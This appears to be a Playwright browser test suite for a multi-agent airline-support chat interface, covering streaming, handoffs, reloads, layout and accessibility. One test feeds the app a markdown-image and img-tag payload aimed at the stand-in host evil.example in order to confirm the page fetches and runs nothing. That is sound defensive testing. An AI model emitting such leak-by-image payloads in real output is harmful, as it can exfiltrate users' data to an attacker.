"""Conversations on the first page in Chromium, from an empty profile."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.browser.conftest import OpenPage
from tests.browser.endpoint import Endpoint, endpoint
from tests.browser.settling import settle, until

BAG = "My bag never arrived"
BAG_PROMPT = "My bag never arrived in Oslo. The tag is LW482913."
LONG = [f"word{number}" for number in range(150)]


def start(page: Page, url: str) -> Page:
    page.goto(url)
    expect(page.locator(".st-key-starters button").first).to_be_visible()
    expect(page.locator(".st-key-side_graph canvas")).to_be_visible()
    return page


def answered(page: Page) -> None:
    """Wait until the run has ended and the team waits for a message."""
    expect(page.locator(".ap-pending")).to_have_count(0)  # a message that was just sent: the head is of the run before
    expect(page.locator(".ap-state")).to_contain_text("answers next")


def handoffs(page: Page) -> Locator:
    return page.locator(".ap-handoff")


def write(page: Page, text: str) -> None:
    box = page.get_by_placeholder(re.compile("Write"))
    box.fill(text)
    box.press("Enter")


def connect(page: Page, served: Endpoint, *, key: str = "") -> None:
    """Choose the endpoint in the model menu."""
    page.locator(".st-key-model_menu button").first.click()
    page.get_by_role("radio", name="A language model").click()
    page.get_by_label("Address (base URL)", exact=True).fill(served.url)
    page.get_by_label("Address (base URL)", exact=True).press("Enter")
    if key:
        page.get_by_label("Key (API key)", exact=True).fill(key)
        page.get_by_label("Key (API key)", exact=True).press("Enter")
    settle(page)
    model = page.get_by_role("combobox", name="Model")
    model.click()
    model.fill("tiny")
    model.press("Enter")
    settle(page)
    page.keyboard.press("Escape")
    expect(page.locator(".st-key-model_menu button").first).to_contain_text("tiny")


def messages_in(served: Endpoint) -> list[str]:
    """Return the last message of each request of the team; requests of the menu's test have no instructions."""
    asked = (question["messages"] for question in served.questions)
    return [messages[-1]["content"] for messages in asked if messages[0]["role"] == "system"]


def test_the_first_handoff_is_one_click_away(page: Page, app_url: str) -> None:
    start(page, app_url)
    page.get_by_role("button", name=BAG).click()
    expect(handoffs(page)).to_have_count(1)
    expect(handoffs(page)).to_contain_text("Lost baggage")
    answered(page)


def test_the_airline_hands_off_twice_by_clicking_alone_and_the_graph_counts(page: Page, app_url: str) -> None:
    start(page, app_url)
    page.get_by_role("button", name=BAG).click()
    expect(handoffs(page)).to_have_count(1)
    answered(page)
    page.get_by_role("button", name="I need to move my flight").click()
    expect(handoffs(page).nth(1)).to_be_visible()
    answered(page)
    page.get_by_role("tab", name="Graph as a list").click()
    counts = page.locator(".ap-graphlist b")
    expect(counts.first).to_be_visible()
    until(lambda: sum(int(text[0]) for text in counts.all_inner_texts()) == handoffs(page).count(), page)


def test_what_one_could_ask_next_can_be_read(page: Page, app_url: str) -> None:
    start(page, app_url)
    page.get_by_role("button", name=BAG).click()
    answered(page)
    words = page.get_by_role("button", name="I need to move my flight").locator("p").bounding_box()
    assert words is not None
    assert words["width"] > 100


def test_the_agent_at_work_lights_up_while_its_answer_streams(page: Page, app_url: str) -> None:
    with endpoint(LONG, held=True) as served:
        start(page, app_url)
        connect(page, served)
        page.get_by_role("button", name=BAG).click()
        expect(page.locator(".ap-streaming")).to_be_visible()
        expect(page.locator(".ap-state")).to_contain_text("Front desk")
        expect(page.locator(".st-key-side_graph")).to_contain_text("Front desk")
        expect(page.locator(".ap-streaming")).to_have_count(1)


# Notes what the graph tells a screen reader from now on.
NOTE_SPOKEN = """() => {
    const {shadowRoot} = [...document.querySelectorAll("*")].find((one) => one.shadowRoot?.querySelector(".spoken"));
    const element = shadowRoot.querySelector(".spoken");
    window.spoken = [];
    new MutationObserver(() => spoken.push(element.textContent)).observe(element, {childList: true, characterData: true, subtree: true});
}"""


def test_delegates_at_work_light_up_together(page: Page, app_url: str) -> None:
    start(page, f"{app_url}/?sample=research")
    page.evaluate(NOTE_SPOKEN)
    page.get_by_role("button", name="Research seaweed packaging").click()
    until(lambda: re.search(r"Market[^.]*, [^.]* are active", page.evaluate("spoken.join()")) is not None, page)
    answered(page)


def test_an_endpoint_streams_its_words_and_gets_the_key_alone(page: Page, app_url: str) -> None:
    with endpoint(["Hello", "**there**", "friend."]) as served:
        start(page, app_url)
        connect(page, served, key="sk-planted")
        page.get_by_role("button", name=BAG).click()
        answered(page)
        expect(page.locator(".ap-text").last).to_have_text("Hello there friend.")
        assert served.keys[-1] == "Bearer sk-planted"
        assert served.questions[-1]["model"] == "tiny"
        assert "sk-planted" not in page.content()


def test_using_other_widgets_in_mid_run_loses_nothing(page: Page, app_url: str) -> None:
    with endpoint(LONG, held=True) as served:
        start(page, app_url)
        connect(page, served)
        page.get_by_role("button", name=BAG).click()
        expect(page.locator(".ap-streaming")).to_contain_text("word3")
        for tab in ("Events", "Agent", "Context variables"):
            page.get_by_role("tab", name=tab).click()
            expect(page.get_by_role("tabpanel", name=tab)).to_be_visible()
        served.go_on()
        answered(page)
        expect(page.locator(".ap-text").last).to_have_text(" ".join(LONG))
        assert messages_in(served) == [BAG_PROMPT]


def test_a_reload_in_mid_run_takes_the_answer_up_again(page: Page, app_url: str) -> None:
    with endpoint(LONG, held=True) as served:
        start(page, app_url)
        connect(page, served)
        page.get_by_role("button", name=BAG).click()
        expect(page.locator(".ap-streaming")).to_contain_text("word3")
        page.reload()
        expect(page.locator(".ap-you")).to_contain_text(BAG)
        served.go_on()
        answered(page)
        expect(page.locator(".ap-text").last).to_have_text(" ".join(LONG))
        assert messages_in(served) == [BAG_PROMPT]


def test_stop_ends_the_reply_and_keeps_its_text(page: Page, app_url: str) -> None:
    with endpoint(LONG, held=True) as served:
        start(page, app_url)
        connect(page, served)
        page.get_by_role("button", name=BAG).click()
        expect(page.locator(".ap-streaming")).to_contain_text("word3")
        page.get_by_role("button", name="Stop").click()
        expect(page.locator(".ap-calm")).to_contain_text("You stopped the answer")
        said = page.locator(".ap-text").last.inner_text()
        assert said.startswith("word0 word1")
        assert "word149" not in said
        served.words = ["Gladly."]
        write(page, "Go on")
        expect(page.locator(".ap-text").last).to_have_text("Gladly.")
        assert messages_in(served) == [BAG_PROMPT, "Go on"]


def test_a_message_written_in_mid_run_is_sent_after_it(page: Page, app_url: str) -> None:
    with endpoint(LONG[:40], held=True) as served:
        start(page, app_url)
        connect(page, served)
        page.get_by_role("button", name=BAG).click()
        expect(page.locator(".ap-streaming")).to_contain_text("word3")
        write(page, "And my dog")
        expect(page.locator(".ap-waiting")).to_have_text("And my dog")
        served.go_on()
        expect(page.locator(".ap-you:not(.ap-waiting)")).to_have_count(2)
        expect(page.locator(".ap-text")).to_have_count(2)
        answered(page)
        assert [m["content"] for m in served.questions[-1]["messages"] if m["role"] == "user"][-1] == "And my dog"


def test_an_endpoint_that_is_not_there_is_explained_with_a_way_on(page: Page, app_url: str) -> None:
    with endpoint(["Hello"]) as served:
        start(page, app_url)
        connect(page, served)
    page.get_by_role("button", name=BAG).click()
    alert = page.get_by_role("alert").filter(has_text="Check the address")
    expect(alert).to_be_visible()
    assert "Traceback" not in page.content()
    page.get_by_role("button", name="Use the offline rules instead").click()
    expect(handoffs(page)).to_have_count(1)
    expect(page.locator(".ap-error")).to_have_count(0)


def test_a_calls_exact_data_is_two_clicks_deep_and_stays_open_while_the_page_is_drawn_anew(
    page: Page, app_url: str
) -> None:
    start(page, app_url)
    page.get_by_role("button", name="Is flight LW212 on time").click()
    answered(page)
    call = page.locator("details.ap-call").first
    call.locator("summary").first.click()
    expect(call.get_by_text("Asked with")).to_be_visible()
    call.get_by_text("Exact data").click()
    expect(call.locator("pre")).to_be_visible()
    page.get_by_role("tab", name="Events").click()
    expect(page.locator(".ap-events")).to_be_visible()
    expect(call.locator("pre")).to_be_visible()


def test_a_new_conversation_starts_over(page: Page, app_url: str) -> None:
    start(page, app_url)
    page.get_by_role("button", name=BAG).click()
    answered(page)
    expect(page).to_have_url(re.compile("conversation="))
    page.get_by_role("button", name="New conversation").click()
    expect(page.get_by_role("button", name=BAG)).to_be_visible()
    expect(page.locator(".ap-row")).to_have_count(0)
    expect(page).not_to_have_url(re.compile("conversation="))


def test_two_tabs_do_not_disturb_each_other(page: Page, app_url: str) -> None:
    other = page.context.new_page()
    start(page, app_url)
    start(other, app_url)
    page.get_by_role("button", name=BAG).click()
    other.get_by_role("button", name="I need to move my flight").click()
    answered(page)
    answered(other)
    expect(page.locator(".ap-you")).to_have_count(1)
    expect(other.locator(".ap-you")).to_have_count(1)
    assert page.locator(".ap-you").all_inner_texts() != other.locator(".ap-you").all_inner_texts()


def test_text_of_a_model_makes_the_browser_fetch_and_run_nothing(page: Page, app_url: str) -> None:
    evil = ["![x](https://evil.example/leak?q=1)", "<img", "src=https://evil.example/y>", "$x^2$", ":material/home:"]
    with endpoint(evil) as served:
        start(page, app_url)
        connect(page, served)
        page.get_by_role("button", name=BAG).click()
        answered(page)
        shown = page.locator(".ap-text").last
        expect(shown).to_contain_text("evil.example/leak", use_inner_text=True)
        expect(shown).to_contain_text("$x^2$ :material/home:", use_inner_text=True)
        expect(page.locator(".ap-text img, .ap-text script")).to_have_count(0)


@pytest.mark.parametrize("size", [(1440, 900), (1024, 768)])
@pytest.mark.parametrize("theme", ["light", "dark"])
def test_it_fits_the_window_without_scrolling(
    app_url: str, open_page: OpenPage, size: tuple[int, int], theme: str
) -> None:
    page = start(open_page(theme=theme, size=size), app_url)
    page.get_by_role("button", name=BAG).click()
    answered(page)
    settle(page)
    root = "document.documentElement"
    assert page.evaluate(f"{root}.scrollWidth <= innerWidth")
    assert page.evaluate("document.querySelector('[data-testid=stMain]').scrollHeight <= innerHeight + 1")


def test_on_a_narrow_window_the_conversation_comes_first(page: Page, app_url: str) -> None:
    page.set_viewport_size({"width": 600, "height": 900})
    start(page, app_url)
    settle(page)
    talk, side = page.locator(".st-key-talk").bounding_box(), page.locator(".st-key-side").bounding_box()
    assert talk is not None
    assert side is not None
    assert talk["y"] + talk["height"] <= side["y"]
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_the_keyboard_alone_reaches_a_handoff(page: Page, app_url: str) -> None:
    start(page, app_url)
    settle(page)
    for _ in range(40):
        page.keyboard.press("Tab")
        focused = page.evaluate("[document.activeElement.tagName, document.activeElement.textContent]")
        if focused[0] == "BUTTON" and BAG in focused[1]:
            break
    page.keyboard.press("Enter")
    expect(handoffs(page)).to_have_count(1)


# Notes in every frame how often a text is seen in the conversation, whenever that has changed.
COUNT = """(text) => {
    window.counts = [];
    const isSeen = (element) =>
        element.checkVisibility() && [...element.childNodes].some((node) => node.nodeType === Node.TEXT_NODE && node.data.includes(text));
    const look = () => {
        const count = [...document.querySelectorAll(".st-key-talk_scroll *")].filter(isSeen).length;
        if (window.counts.at(-1) !== count) window.counts.push(count);
        requestAnimationFrame(look);
    };
    look();
}"""


def test_the_answer_before_is_on_the_screen_once_while_the_next_one_is_written(
    open_page: OpenPage, app_url: str
) -> None:
    page = start(open_page(moving=True), app_url)
    page.get_by_role("button", name=BAG).click()
    answered(page)
    settle(page)
    page.evaluate(COUNT, "Found it. Bag LW482913")
    page.get_by_role("button", name="I need to move my flight").click()
    expect(page.locator(".ap-you")).to_have_count(2)
    expect(handoffs(page).nth(1)).to_be_visible()
    answered(page)
    settle(page)
    counts = page.evaluate("window.counts")
    assert counts in ([1], [1, 2, 1]), "it is never gone, and twice for no more than the moment in which it moves up"


def test_nothing_jumps_while_an_answer_streams(open_page: OpenPage, app_url: str) -> None:
    with endpoint(LONG, held=True) as served:
        page = start(open_page(moving=True), app_url)
        connect(page, served)
        settle(page)
        parts = [
            page.locator(name) for name in (".st-key-bar", ".st-key-talk", ".st-key-side_graph", ".st-key-side_more")
        ]
        before = [part.bounding_box() for part in parts]
        page.get_by_role("button", name=BAG).click()
        expect(page.locator(".ap-streaming")).to_contain_text("word9")
        during = [part.bounding_box() for part in parts]
        served.go_on()
        answered(page)
        assert before == during == [part.bounding_box() for part in parts]
